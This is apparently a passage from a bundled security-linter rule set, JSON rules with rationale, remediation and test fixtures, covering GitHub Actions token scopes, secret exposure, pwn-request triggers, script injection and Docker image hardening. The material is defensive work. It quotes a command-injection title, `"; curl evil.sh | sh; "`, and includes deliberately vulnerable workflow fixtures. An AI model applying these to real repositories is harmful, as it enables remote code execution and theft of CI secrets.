job","severity":"medium","subject":"workflow","when":{"required":["permissions"],"properties":{"permissions":{"type":"object"},"inheritingJobs":{"minItems":1}}},"schema":{"properties":{"permissions":{"additionalProperties":{"not":{"const":"write"}}}}},"message":"`{{key}}: write` is granted at the top of this workflow, so every job without its own `permissions:` ({{subject.inheritingJobs}}) gets a token that can write `{{key}}`, whether it needs to or not. Grant `read` (or nothing) here and `{{key}}: write` only in the job that uses it.","rationale":"The `GITHUB_TOKEN` is handed to every step of every job that inherits the workflow\'s permissions, including third-party actions and steps that handle untrusted input. A write scope granted at the top reaches all of them: `contents: write` lets any of them push code or tags, `packages: write` replace published images, `id-token: write` mint OIDC tokens that cloud providers trust for deployments, `actions: write` change or rerun workflows. Scoping it to the job that publishes limits what a compromised step elsewhere can do. OpenSSF Scorecard\'s Token-Permissions check reports top-level write permissions for the same reason.","remediation":"```yaml\\npermissions:\\n  contents: read\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make test\\n  publish:\\n    permissions:\\n      contents: read\\n      packages: write\\n      id-token: write\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions"},{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-secrets"},{"framework":"url","url":"https://github.com/ossf/scorecard/blob/main/docs/checks.md#token-permissions"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\npermissions:\\n  contents: write\\n  packages: write\\n  id-token: write\\n  pull-requests: read\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make test\\n  publish:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make publish\\n","expect":[{"line":3,"column":3,"endLine":3,"endColumn":18},{"line":4,"column":3,"endLine":4,"endColumn":18},{"line":5,"column":3,"endLine":5,"endColumn":18}]},{"file":".github/workflows/reusable.yml","content":"on: workflow_call\\npermissions:\\n  actions: write\\n  statuses: write\\njobs:\\n  rerun:\\n    uses: ./.github/workflows/rerun.yml\\n","expect":[{"line":3,"column":3,"endLine":3,"endColumn":17},{"line":4,"column":3,"endLine":4,"endColumn":18}]},{"file":".github/workflows/release.yml","content":"on: push\\npermissions:\\n  contents: write\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    permissions:\\n      contents: write\\n    steps:\\n      - run: make publish\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\npermissions:\\n  contents: read\\n  statuses: none\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make test\\n","expect":[]}],"source":"policies/workflows/workflow-permissions-write-scope.yaml"},{"id":"workflow-secret-in-build-args","pack":"workflows","title":"Secret passed to an image build as a build argument","severity":"high","subject":"workflow.step","when":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/build-push-action(@|$)"}}},"schema":{"properties":{"with":{"properties":{"build-args":{"not":{"pattern":{"$param":"secretExpression"}}}}}}},"message":"This build passes a secret through `build-args`, which are recorded in the image\'s history and provenance, so anyone who can pull the image can read it. Pass it with the action\'s `secrets:` input and read it in the Dockerfile with `RUN --mount=type=secret`.","rationale":"Build arguments are not secret: their values end up in the image configuration\'s history (when an ARG is used by a RUN), in build logs and caches, and, since docker/build-push-action adds provenance attestations by default, in the provenance attached to the pushed image, which Docker\'s documentation warns about. Docker\'s GitHub Actions documentation shows build secrets passed through the `secrets:` (or `secret-files:`) input instead, which BuildKit mounts for the one step that needs them and never writes to a layer.","remediation":"```yaml\\n- uses: docker/build-push-action@<sha>\\n  with:\\n    push: true\\n    tags: ghcr.io/example/app:1.4.2\\n    secrets: |\\n      npm_token=${{ secrets.NPM_TOKEN }}\\n```\\n\\n```dockerfile\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN npm ci --omit=dev\\n```","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/secrets/"}],"params":{"secretExpression":"\\\\$\\\\{\\\\{\\\\s*(secrets\\\\.|github\\\\.token)"},"paramSchemas":{"secretExpression":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A secret or token expression anywhere in the build arguments."}},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          build-args: |\\n            APP_VERSION=1.4.2\\n            NPM_TOKEN=${{ secrets.NPM_TOKEN }}\\n","expect":[{"line":10,"column":11,"endLine":12,"endColumn":47}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          build-args: |\\n            APP_VERSION=${{ github.ref_name }}\\n          secrets: |\\n            npm_token=${{ secrets.NPM_TOKEN }}\\n","expect":[]}],"source":"policies/workflows/workflow-secret-in-build-args.yaml"},{"id":"workflow-secrets-as-json","pack":"workflows","title":"Step receives every secret at once","severity":"medium","subject":"workflow.step","schema":{"properties":{"allSecrets":false}},"message":"An expression here reads the whole `secrets` context (`toJSON(secrets)`), so this step, and every tool or container it starts, gets every secret of the repository and organisation, not just the ones it needs. Name the secrets the step uses: `${{ secrets.REGISTRY_TOKEN }}`.","rationale":"GitHub only masks and hands out the secrets a workflow names; `toJSON(secrets)` names them all, typically to pass them into a container build or a script as one blob. Whatever runs with that blob (a build\'s RUN lines, a base image, a third-party action) can read credentials that have nothing to do with it, and a log line that prints part of the JSON may escape masking.","remediation":"```yaml\\n- run: docker build --secret id=npm,env=NPM_TOKEN -t app .\\n  env:\\n    NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-secrets"},{"framework":"url","url":"https://docs.zizmor.sh/audits/#overprovisioned-secrets"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/image.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - env:\\n          ALL: ${{ toJSON(secrets) }}\\n        run: echo \\"$ALL\\" > secrets.json && docker build --secret id=all,src=secrets.json .\\n      - uses: docker/build-push-action@263435318d21b8e681c14492fe198d362a7d2c83\\n        with:\\n          build-args: SECRETS=${{ toJSON(secrets) }}\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":12},{"line":9,"column":9,"endLine":9,"endColumn":80}]},{"file":".github/workflows/image.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - env:\\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\\n        run: docker build --secret id=npm,env=NPM_TOKEN .\\n","expect":[]}],"source":"policies/workflows/workflow-secrets-as-json.yaml"},{"id":"workflow-secrets-inherit-image-build","pack":"workflows","title":"Every secret handed to a reusable workflow that builds images","severity":"medium","subject":"workflow.job","when":{"required":["secretsInherit"]},"schema":{"properties":{"callsImageBuilder":false}},"message":"`secrets: inherit` hands every secret of this repository to a reusable workflow that builds or pushes images, where any build step, base image or action it runs can read them. Pass only the secrets it needs: `secrets: { registry-token: ${{ secrets.REGISTRY_TOKEN }} }`.","rationale":"An image build runs code the workflow does not control: the RUN lines of Dockerfiles, base images and the actions that build and push. `secrets: inherit` makes every repository and organisation secret available to the called workflow, so a compromise anywhere in the build reaches deployment keys and tokens that have nothing to do with it. Naming the secrets keeps the blast radius to what the build needs. The called workflow is read when it is a file of this repository (`./.github/workflows/\u2026`, `$/.github/workflows/\u2026`), and shown as related location.","remediation":"```yaml\\njobs:\\n  image:\\n    uses: ./.github/workflows/image.yml\\n    secrets:\\n      registry-token: ${{ secrets.REGISTRY_TOKEN }}\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/how-tos/reuse-automations/reuse-workflows#passing-secrets-to-nested-workflows"},{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-secrets"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    uses: ./.github/workflows/release.yml\\n    secrets: inherit\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@263435318d21b8e681c14492fe198d362a7d2c83\\n        with:\\n          push: true\\n","expect":[{"line":3,"column":3,"endLine":3,"endColumn":8}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    uses: ./.github/workflows/release.yml\\n    secrets:\\n      token: ${{ secrets.REGISTRY_TOKEN }}\\n  lint:\\n    uses: acme/workflows/.github/workflows/lint.yml@11bd71901bbe5b1630ceea73d27597364c9af683\\n    secrets: inherit\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker build -t app .\\n","expect":[]}],"source":"policies/workflows/workflow-secrets-inherit-image-build.yaml"},{"id":"workflow-self-hosted-runner-pull-request-docker","pack":"workflows","title":"Pull request runs docker on a self-hosted runner","severity":"medium","subject":"workflow.job","when":{"required":["runsDocker","triggers"],"properties":{"triggers":{"contains":{"enum":{"$param":"pullRequestTriggers"}}}}},"schema":{"properties":{"runsOn":{"not":{"anyOf":[{"const":"self-hosted"},{"type":"array","contains":{"const":"self-hosted"}},{"type":"object","required":["labels"],"properties":{"labels":{"anyOf":[{"const":"self-hosted"},{"type":"array","contains":{"const":"self-hosted"}}]}}}]}}}},"message":"This job runs docker for pull requests on a self-hosted runner, so a contributor\'s code gets the runner\'s Docker daemon (root on the host) and can leave something behind for the jobs that run there next. Use GitHub-hosted runners for pull requests, or ephemeral self-hosted runners (`--ephemeral`) that are destroyed after one job.","rationale":"A GitHub-hosted runner is a fresh virtual machine per job; a self-hosted runner is not, unless it is set up to be ephemeral. Access to its Docker daemon is root on the host: a pull request that runs `docker build` or `docker run` can start a privileged container, install a backdoor in the runner, poison its image cache or read the credentials of later jobs, including release jobs of the default branch. GitHub advises against self-hosted runners for public repositories for this reason.","remediation":"```yaml\\non: pull_request\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker compose run --rm test\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#hardening-for-self-hosted-runners"},{"framework":"url","url":"https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/autoscaling-with-self-hosted-runners#using-ephemeral-runners-for-autoscaling"},{"framework":"url","url":"https://github.com/ossf/scorecard/blob/main/docs/checks.md#dangerous-workflow"}],"params":{"pullRequestTriggers":["pull_request","pull_request_target","pull_request_review","pull_request_review_comment","issue_comment","merge_group"]},"paramSchemas":{"pullRequestTriggers":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Events through which a contributor\'s pull request starts the job."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: [push, pull_request]\\njobs:\\n  test:\\n    runs-on: [self-hosted, linux]\\n    steps:\\n      - run: docker compose run --rm test\\n  build:\\n    runs-on:\\n      group: builders\\n      labels: self-hosted\\n    steps:\\n      - uses: docker/build-push-action@263435318d21b8e681c14492fe198d362a7d2c83\\n","expect":[{"line":3,"column":3,"endLine":3,"endColumn":7},{"line":7,"column":3,"endLine":7,"endColumn":8}]},{"file":".github/workflows/ci.yml","content":"on: [push, pull_request]\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker compose run --rm test\\n  lint:\\n    runs-on: self-hosted\\n    steps:\\n      - run: make lint\\n","expect":[]}],"source":"policies/workflows/workflow-self-hosted-runner-pull-request-docker.yaml"},{"id":"workflow-untrusted-code-with-privileged-trigger","pack":"workflows","title":"Privileged trigger runs a pull request\'s code","severity":"critical","subject":"workflow.step","when":{"required":["checkedOutRefs","triggers"],"properties":{"checkedOutRefs":{"contains":{"pattern":{"$paramPattern":"prHeadRefs"}}},"triggers":{"contains":{"enum":{"$param":"privilegedTriggers"}}}}},"schema":{"not":{"anyOf":[{"required":["commands"],"properties":{"commands":{"contains":{"pattern":{"$paramPattern":"executingCommands"}}}}},{"required":["uses"],"properties":{"uses":{"pattern":"^\\\\.[/\\\\\\\\]"}}},{"required":["builds"]},{"required":["composeFiles"]}]}},"message":"This step runs the pull request\'s code, which an earlier step of this job checked out (see the related location), in a workflow whose trigger (`pull_request_target`, `workflow_run`, `issue_comment`, \u2026) has the base repository\'s secrets and a write token: anyone who opens a pull request can run code with them. Build and test contributions in a `pull_request` workflow and pass only results to this one.","rationale":"`pull_request_target`, `workflow_run`, `issue_comment` and the other privileged triggers run in the context of the base repository, with its secrets and a `GITHUB_TOKEN` that can write, precisely because they are not meant to run the pull request\'s code. Checking out its head or merge ref (`ref: ${{ github.event.pull_request.head.sha }}`, `refs/pull/N/merge`, `gh pr checkout`) and then running anything that reads the checkout (`npm ci` runs install scripts, `make` and test runners run the repository\'s code, `docker build` runs its Dockerfile\'s RUN lines, `uses: ./\u2026` runs its action) hands that access to whoever opened the pull request (\\"pwn request\\"). The finding is on the step that executes the code; the checkout is shown as a related location. OpenSSF Scorecard\'s Dangerous-Workflow check reports the same pattern.","remediation":"Split the work: build and test the contributor\'s code with `on: pull_request` (no secrets, read\\ntoken), upload what is needed as an artifact, and let a `workflow_run` workflow that never checks\\nout or executes the pull request\'s code publish it:\\n\\n```yaml\\non: pull_request\\npermissions:\\n  contents: read\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@<sha>\\n      - run: npm ci && npm test\\n```","references":[{"framework":"url","url":"https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"},{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"},{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/events-that-trigger-workflows#pull_request_target"},{"framework":"url","url":"https://github.com/ossf/scorecard/blob/main/docs/checks.md#dangerous-workflow"}],"params":{"privilegedTriggers":["pull_request_target","workflow_run","issue_comment","pull_request_review_comment","discussion_comment","issues"],"prHeadRefs":["github\\\\.event\\\\.pull_request\\\\.head\\\\.(sha|ref|repo\\\\.full_name|repo\\\\.clone_url|label)","github\\\\.event\\\\.pull_request\\\\.merge_commit_sha","github\\\\.head_ref","github\\\\.event\\\\.workflow_run\\\\.(head_sha|head_branch|head_repository\\\\.full_name|head_repository\\\\.clone_url|pull_requests)","github\\\\.event\\\\.(check_suite|check_run\\\\.check_suite)\\\\.head_(sha|branch)","refs/pull/","(^|[\\\\s:+/])pull/[^/\\\\s]+/(head|merge)","steps\\\\.[\\\\w-]+\\\\.outputs\\\\.[\\\\w-]*(head|pr)[\\\\w-]*"],"executingCommands":["^(\\\\S*/)?(npm|pnpm|yarn|bun|npx|pnpx|node|deno|lerna|nx|turbo)( |$)","^(\\\\S*/)?(make|gmake|cmake|ninja|bazel|bazelisk|meson|just|task|rake|bundle|composer|mix|sbt|ant|mvn|gradle|cargo|dotnet|msbuild|xcodebuild|swift|pre-commit|tox|nox|pytest|poetry|pipenv|hatch|pdm|buck2?)( |$)","^(\\\\S*/)?(\\\\./|\\\\.\\\\./)|^(\\\\S*/)?(gradlew|mvnw)( |$)","^(\\\\S*/)?(ba|da|z|k)?sh [^-]|^(source|\\\\.) ","^(\\\\S*/)?python[0-9.]* ([^-]|-m (pytest|build|tox|nox|unittest|pip install))","^(\\\\S*/)?(pip[0-9.]*|uv pip) install .*(\\\\s\\\\.|\\\\s-e|\\\\s-r|\\\\./|requirements)","^(\\\\S*/)?(uv|go) (run|test|generate|build|sync)( |$)","^(\\\\S*/)?(docker|podman|nerdctl) (buildx |image )?(build|bake)( |$)|^(\\\\S*/)?buildah (bud|build)( |$)","^(\\\\S*/)?(docker|podman) compose |^(\\\\S*/)?(docker-compose|podman-compose) ","^(\\\\S*/)?(docker|podman|nerdctl) (container )?(run|create) .*(\\\\$\\\\{?PWD|\\\\$\\\\(pwd\\\\)|github\\\\.workspace|GITHUB_WORKSPACE|[\\\\s=]\\\\.(/|:|\\\\s|$))"]},"paramSchemas":{"privilegedTriggers":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Events whose runs get the base repository\'s secrets and a token that can write, although an outsider starts them: code they check out from a pull request must never run."},"prHeadRefs":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"RE2 patterns (unanchored) for a checked-out ref (as the step\'s `checkedOutRefs` gives it: expressions without spaces, `[\'x\']` written `.x`) that is a pull request\'s head or merge commit, i.e. a contributor\'s code. This list is the one place Containment keeps them."},"executingCommands":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"RE2 patterns for a `run:` command (as the step\'s `commands` gives it: `program arg \u2026`) that executes files of the workspace: package scripts, build tools, test runners, scripts of the repository, container builds and runs that mount it."}},"tests":[{"file":".github/workflows/preview.yml","content":"on: pull_request_target\\njobs:\\n  preview:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          ref: ${{ github.event.pull_request.head.sha }}\\n      - run: docker build -t preview:${{ github.event.number }} .\\n      - run: docker compose up -d\\n","expect":[{"line":9,"column":9,"endLine":9,"endColumn":66},{"line":10,"column":9,"endLine":10,"endColumn":34}]},{"file":".github/workflows/test.yml","content":"on:\\n  pull_request_target:\\n    types: [labeled]\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          repository: ${{ github.event.pull_request.head.repo.full_name }}\\n          ref: ${{ github.head_ref }}\\n      - run: echo \\"testing\\"\\n      - run: npm ci && npm test\\n      - uses: ./.github/actions/report\\n      - run: docker run --rm -v \\"$PWD:/src\\" -w /src node:22 make test\\n","expect":[{"line":13,"column":9,"endLine":13,"endColumn":32},{"line":14,"column":9,"endLine":14,"endColumn":39},{"line":15,"column":9,"endLine":15,"endColumn":70}]},{"file":".github/workflows/ok-to-test.yml","content":"on: issue_comment\\njobs:\\n  test:\\n    if: github.event.issue.pull_request && contains(github.event.comment.body, \'/ok-to-test\')\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          ref: refs/pull/${{ github.event.issue.number }}/merge\\n      - run: pip install -e . && pytest\\n","expect":[{"line":10,"column":9,"endLine":10,"endColumn":40}]},{"file":".github/workflows/after-ci.yml","content":"on:\\n  workflow_run:\\n    workflows: [CI]\\n    types: [completed]\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          git fetch origin pull/${{ github.event.workflow_run.pull_requests[0].number }}/head:pr\\n          git checkout pr\\n          make release\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          ref: ${{ github.event.workflow_run.head_sha }}\\n      - run: podman build -t app .\\n","expect":[{"line":9,"column":9,"endLine":12,"endColumn":23},{"line":16,"column":9,"endLine":16,"endColumn":35}]},{"file":".github/workflows/preview.yml","content":"on: pull_request_target\\njobs:\\n  label:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - run: docker build -t tools .\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          ref: ${{ github.event.pull_request.head.sha }}\\n          path: pr\\n      - run: echo \\"${{ github.event.pull_request.number }}\\" > pr-number.txt\\n      - uses: $/.github/actions/comment\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: pull_request\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          ref: ${{ github.event.pull_request.head.sha }}\\n      - run: docker build -t app:pr .\\n      - run: npm ci\\n","expect":[]}],"source":"policies/workflows/workflow-untrusted-code-with-privileged-trigger.yaml"},{"id":"workflow-untrusted-input-in-run","pack":"workflows","title":"Attacker-controlled value expanded into a script","severity":"high","subject":"workflow.step","schema":{"properties":{"expansions":{"items":{"if":{"required":["input"],"properties":{"input":{"enum":{"$param":"scriptInputs"}}}},"then":{"properties":{"context":{"not":{"pattern":{"$paramPattern":"untrustedContexts"}}}}}}}}},"message":"`{{value}}` is attacker-controlled and is pasted into this script\'s code before it runs (directly or through an `env:` or matrix value), so whoever writes that title, branch name, comment or payload can run commands here with the job\'s token and secrets. Pass it to the step as an environment variable and quote it: `env: { VALUE: ... }` and `\\"$VALUE\\"` in the script (`process.env.VALUE` in github-script).","rationale":"GitHub replaces `${{ }}` expressions before the shell (or `actions/github-script`\'s JavaScript) starts, so the value becomes part of the script\'s text. Pull request titles and bodies, issue and comment bodies, commit messages, author names and branch names are chosen by whoever opens the pull request or issue; a title such as `\\"; curl evil.sh | sh; \\"` is executed. The value is followed through `env:` (`${{ env.TITLE }}` where `TITLE: ${{ github.event.issue.title }}`) and a matrix built from event data. A boolean or number (`startsWith(\u2026)`, `contains(\u2026) && \'a\' || \'b\'`, `github.event.pull_request.number`) is not attacker text. Through an environment variable the value stays data. GitHub\'s security hardening guide describes this script injection; OpenSSF Scorecard\'s Dangerous-Workflow check reports it.","remediation":"```yaml\\n- name: Greet\\n  env:\\n    TITLE: ${{ github.event.pull_request.title }}\\n  run: echo \\"Building: $TITLE\\"\\n- uses: actions/github-script@<sha>\\n  env:\\n    TITLE: ${{ github.event.issue.title }}\\n  with:\\n    script: console.log(process.env.TITLE)\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"},{"framework":"url","url":"https://securitylab.github.com/resources/github-actions-untrusted-input/"},{"framework":"url","url":"https://github.com/ossf/scorecard/blob/main/docs/checks.md#dangerous-workflow"}],"params":{"untrustedContexts":["^github\\\\.event\\\\.(issue|pull_request|discussion)\\\\.(title|body)$","^github\\\\.event\\\\.(comment|review|review_comment)\\\\.body$","^github\\\\.event\\\\.release\\\\.(name|body|tag_name)$","^github\\\\.event\\\\.pages\\\\.\\\\*\\\\.page_name$","^github\\\\.head_ref$","^github\\\\.event\\\\.pull_request\\\\.head\\\\.(ref|label)$","^github\\\\.event\\\\.pull_request\\\\.head\\\\.repo\\\\.(default_branch|description|homepage)$","^github\\\\.event\\\\.(workflow_run\\\\.head_branch|check_suite\\\\.head_branch|check_run\\\\.check_suite\\\\.head_branch)$","^github\\\\.event\\\\.workflow_run\\\\.pull_requests\\\\.\\\\*\\\\.head\\\\.ref$","^github\\\\.event\\\\.(commits\\\\.\\\\*|head_commit|workflow_run\\\\.head_commit|merge_group\\\\.head_commit)\\\\.(message|(author|committer)\\\\.(name|email))$","^github\\\\.event\\\\.workflow_run\\\\.(display_title|head_repository\\\\.description)$","^github\\\\.event\\\\.client_payload(\\\\..*)?$","^github(\\\\.event)?$","^github\\\\.event\\\\.(issue|pull_request|pull_request\\\\.head|pull_request\\\\.head\\\\.repo|discussion|comment|review|review_comment|release|pages|pages\\\\.\\\\*|commits|commits\\\\.\\\\*|commits\\\\.\\\\*\\\\.(author|committer)|head_commit|head_commit\\\\.(author|committer)|workflow_run|workflow_run\\\\.head_commit|workflow_run\\\\.head_commit\\\\.(author|committer)|workflow_run\\\\.head_repository|workflow_run\\\\.pull_requests|workflow_run\\\\.pull_requests\\\\.\\\\*|workflow_run\\\\.pull_requests\\\\.\\\\*\\\\.head|check_suite|check_run|check_run\\\\.check_suite|merge_group|merge_group\\\\.head_commit)$"],"scriptInputs":["run","actions/github-script:script","appleboy/ssh-action:script","appleboy/ssh-action:script_path","garygrossgarten/github-action-ssh:command","nick-fields/retry:command","nick-invision/retry:command","wandalen/wretry.action:command","azure/cli:inlinescript","azure/powershell:inlinescript","addnab/docker-run-action:run","mathiasvr/command-output:run","gacts/run-and-post-run:run","gacts/run-and-post-run:post"]},"paramSchemas":{"untrustedContexts":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"RE2 patterns for the context references whose text an outsider writes (matched against `expansions[].context`: dotted, `*` for an index). Whole objects that hold such text (`toJSON(github.event)`) are listed too. This list is the one place Containment keeps them; add `^inputs\\\\.` if your reusable workflows receive pull request text."},"scriptInputs":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Where an expansion becomes code: `run` (a step\'s script) and `<owner>/<repo>:<input>` in lower case for action inputs that are scripts or shell commands."}},"tests":[{"file":".github/workflows/triage.yml","content":"on:\\n  issues:\\n    types: [opened]\\njobs:\\n  triage:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          echo \\"New issue: ${{ github.event.issue.title }}\\"\\n          docker run --rm ghcr.io/example/triage:1.0.0 \\"${{ github.event.issue.body }}\\"\\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea\\n        with:\\n          script: |\\n            const title = \\"${{ github.event.issue.title }}\\";\\n            console.log(title);\\n","expect":[{"line":9,"column":11,"endLine":9,"endColumn":60},{"line":10,"column":11,"endLine":10,"endColumn":88},{"line":14,"column":13,"endLine":14,"endColumn":61}]},{"file":".github/workflows/dispatch.yml","content":"on: repository_dispatch\\nenv:\\n  TITLE: ${{ github.event.client_payload.title }}\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    strategy:\\n      matrix: ${{ fromJSON(github.event.client_payload.matrix) }}\\n    env:\\n      BRANCH: ${{ github.event.client_payload.branch }}\\n    steps:\\n      - run: echo \\"${{ env.TITLE }}\\" && git checkout \\"${{ env.BRANCH }}\\"\\n      - run: make ${{ matrix.target }}\\n","expect":[{"line":12,"column":14,"endLine":12,"endColumn":73},{"line":12,"column":14,"endLine":12,"endColumn":73},{"line":13,"column":14,"endLine":13,"endColumn":39}]},{"file":".github/workflows/pr.yml","content":"on: pull_request_target\\njobs:\\n  label:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - env:\\n          TITLE: ${{ github.event.pull_request.title }}\\n        run: |\\n          echo \\"PR $TITLE (#${{ github.event.pull_request.number }}, id ${{ github.event.pull_request.id }})\\"\\n          echo \\"${{ startsWith(github.event.pull_request.title, \'WIP\') }}\\"\\n          echo \\"${{ contains(github.event.pull_request.body, \'[skip]\') && \'skip\' || \'run\' }}\\"\\n          echo \\"${{ github.event.pull_request.head.ref == \'main\' }}\\"\\n          echo \\"${{ format(\'{0}-{1}\', github.event.pull_request.number, github.run_id) }}\\"\\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea\\n        with:\\n          script: console.log(process.env.TITLE)\\n          github-token: ${{ github.event.pull_request.title }}\\n","expect":[]},{"file":".github/workflows/pr.yml","content":"on: pull_request_target\\njobs:\\n  label:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          echo \\"${{ format(\'{0}\', github.event.pull_request.title) }}\\"\\n          echo \'${{ toJSON(github.event.pull_request) }}\'\\n          echo \\"${{ github.event.pull_request.draft && github.head_ref || \'none\' }}\\"\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":71},{"line":8,"column":11,"endLine":8,"endColumn":58},{"line":9,"column":11,"endLine":9,"endColumn":85}]}],"source":"policies/workflows/workflow-untrusted-input-in-run.yaml"}],"source":"policies/workflows"}]');
+  packs ??= JSON.parse('[{"id":"docker","title":"Docker runtime and image security","description":"What Docker\'s own security guidance, the CIS Docker Benchmark v1.6.0 (sections 4 and 5) and the OWASP Docker Security Cheat Sheet ask of every container and image, wherever it is described: Compose services, workflow job and service containers, `docker run` in scripts, Dockerfiles.","version":"0.1.0","rules":[{"id":"command-chmod-insecure","pack":"docker","title":"Build makes files world-writable or adds setuid/setgid bits","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"if":{"properties":{"name":{"const":"chmod"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"insecureMode"}}}}}}},"message":"`chmod {{value}}` makes files in the image world-writable or setuid/setgid, so any process in the container can replace them, or a bug in a setuid program becomes root. Give the files to the user that needs them (`COPY --chown`, `chown`) with a mode such as `755` or `644`.","rationale":"World-writable files and directories let any user in the container alter programs and configuration that others (including root) then run; `chmod 777` is usually a shortcut around an ownership problem. Setuid and setgid bits give a program its owner\'s or group\'s privileges whoever runs it, which makes every bug in it a privilege escalation. The CIS Docker Benchmark (4.8) asks that setuid and setgid permissions be removed from images. The sticky-bit mode `1777` (a shared temp directory) is not reported.","remediation":"Give ownership to the runtime user instead of opening the permissions to everyone:\\n\\n```dockerfile\\nCOPY --chown=10001:10001 app/ /app/\\nRUN mkdir -p /app/data && chown 10001:10001 /app/data && chmod 750 /app/data\\nUSER 10001\\n```\\n\\nTo strip setuid and setgid bits from a base image:\\n`RUN find / -xdev -perm /6000 -type f -exec chmod a-s {} + || true`.","references":[{"framework":"cis-docker","id":"1.6.0:4.8"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{"insecureMode":"^0?[0-7]{2}[2367]$|^[2-7][0-7]{3}$|(^|,)[ug]*[oa][ugoa]*[+=][rxXst]*w|[+=][rwxXt]*s"},"paramSchemas":{"insecureMode":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Octal modes that let everyone write (the last digit has the write bit, without the sticky bit that makes /tmp-style directories safe) or that set setuid/setgid; symbolic `o+w`, `a+w`, `a=rwx`, `u+s`, `g+s`."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nRUN mkdir -p /app/data && chmod -R 777 /app/data\\nRUN chmod u+s /usr/local/bin/helper\\nRUN 